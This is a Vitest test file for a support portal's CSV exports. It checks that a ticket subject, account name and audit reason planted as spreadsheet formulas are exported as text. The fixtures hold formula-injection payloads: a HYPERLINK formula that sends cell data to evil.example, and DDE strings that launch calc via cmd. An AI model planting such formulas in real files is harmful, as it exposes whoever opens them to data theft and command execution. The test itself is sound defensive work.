import { fireEvent, screen, waitFor } from "@testing-library/react";
import { beforeEach, describe, expect, it, vi } from "vitest";
import { parseCsv } from "../../server/lib/csv";
import { ticketsResource } from "../../src/resources/tickets";
import { renderWithRefine } from "../support/renderWithRefine";

// The portal's list export and audit export (issue 26, item 3) write through the product's one CSV
// writer: a subject or a reason a subscriber planted as a formula reaches the agent's spreadsheet as text.
const downloadText = vi.hoisted(() => vi.fn<(name: string, text: string, type: string) => void>());
vi.mock("../../src/providers/download", () => ({ downloadText, downloadFromApi: vi.fn() }));
const { ResourceListPage } = await import("../../src/pages/ResourceListPage");
const { default: AuditViewerPage } = await import("../../src/pages/care/AuditViewerPage");

const PLANTED = '=HYPERLINK("https://evil.example/?"&A1,"Your refund")';
const NOW = "2026-11-27T10:00:00.000Z";
const ticket = {
  id: "5a1c7a52-3f0e-4d7e-9d59-6a1f1b2a3c4d",
  accountId: "7d1c7a52-0000-4000-8000-000000000002",
  accountName: "@SUM(1+1)*cmd|' /C calc'!A0",
  category: "billing",
  subject: PLANTED,
  message: "-2+3",
  attachmentIds: [],
  attachments: [],
  status: "acknowledged",
  priority: "normal",
  assigned: false,
  slaDueAt: NOW,
  messages: [],
  lastMessageAt: NOW,
  createdByRole: "subscriber",
  createdAt: NOW,
  updatedAt: NOW,
};
const auditEvent = {
  id: "6b1c7a52-3f0e-4d7e-9d59-6a1f1b2a3c4d",
  operator: "ATT",
  actorUid: "demo-alex",
  actorRole: "subscriber",
  action: "tickets.create",
  targetType: "tickets",
  targetId: ticket.id,
  before: null,
  after: { subject: PLANTED },
  reason: "+1+cmd|' /C calc'!A0",
  requestId: "r-1",
  createdAt: NOW,
};

/** The one file the export saved, read back as cells. */
async function exported(): Promise<string[][]> {
  await waitFor(() => expect(downloadText).toHaveBeenCalledTimes(1));
  const [name, text, type] = downloadText.mock.calls[0]!;
  expect(name).toMatch(/\.csv$/);
  expect(type).toBe("text/csv");
  return parseCsv(text);
}

describe("the portal's CSV exports", () => {
  beforeEach(() => downloadText.mockReset());

  it("the list export writes a planted subject, account name and message as text, never as a formula", async () => {
    renderWithRefine(null, {
      identity: { uid: "demo-agent", role: "agent" },
      data: { getList: vi.fn(() => Promise.resolve({ data: [ticket], total: 1 })) },
      path: "/tickets",
      resources: [{ name: "tickets", list: "/tickets", show: "/tickets/show/:id" }],
      routes: { "/tickets": <ResourceListPage resource={ticketsResource} /> },
    });
    await screen.findByText(PLANTED);
    fireEvent.click(screen.getByRole("button", { name: /Export CSV/ }));
    const [header, row] = await exported();
    const cell = (label: string) => row![header!.indexOf(label)];
    expect(cell("Subject")).toBe(`'${PLANTED}`);
    expect(row).toContain("'@SUM(1+1)*cmd|' /C calc'!A0");
    expect(row!.every((value) => !/^[=+\-@\t\r]/.test(value))).toBe(true);
  });

  it("the audit export writes a planted reason and a record's text as text, never as a formula", async () => {
    renderWithRefine(<AuditViewerPage />, {
      identity: { uid: "demo-admin", role: "admin" },
      data: { getList: vi.fn(() => Promise.resolve({ data: [auditEvent], total: 1 })) },
      resources: [{ name: "audit-events", list: "/audit-events" }],
    });
    // The event's row is on the page (it speaks in words, so its action key is not shown).
    await waitFor(() => expect(document.querySelectorAll("tbody tr.ant-table-row")).toHaveLength(1));
    fireEvent.click(screen.getByRole("button", { name: /Export CSV/ }));
    const [, row] = await exported();
    expect(row).toContain("'+1+cmd|' /C calc'!A0");
    expect(row!.every((value) => !/^[=+\-@\t\r]/.test(value))).toBe(true);
  });
});
